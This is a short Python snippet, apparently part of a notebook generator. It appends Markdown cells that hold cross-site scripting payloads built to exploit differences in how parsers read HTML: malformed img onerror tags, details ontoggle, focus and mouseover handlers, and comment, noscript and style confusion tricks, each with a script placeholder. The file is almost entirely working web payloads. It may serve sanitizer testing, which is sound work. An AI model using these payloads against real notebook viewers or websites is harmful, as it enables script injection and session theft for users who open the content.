"""Writes Markdown whose tags parsers read differently: broken attributes, comments, backticks, entities."""
# wins: page
# %% notebook
for text in (f"<img/src=x/onerror={PWN}>", f"<x/><img src=x onerror&#61;{PWN} onerror={PWN}>",
             f"<!--><img src=x onerror={PWN}>-->",
             f"`a` <details/open/ontoggle={PWN}>",
             f"<a href=x\n onmouseover={PWN} autofocus tabindex=1 onfocus={PWN}>x</a>",

             f"<noscript><p title=\"</noscript><img src=x onerror={PWN}>\">",
             f"<style><img src=x onerror={PWN}></style><img src=x onerror={PWN}>"):
    nb.cells.append(new_markdown_cell(text))
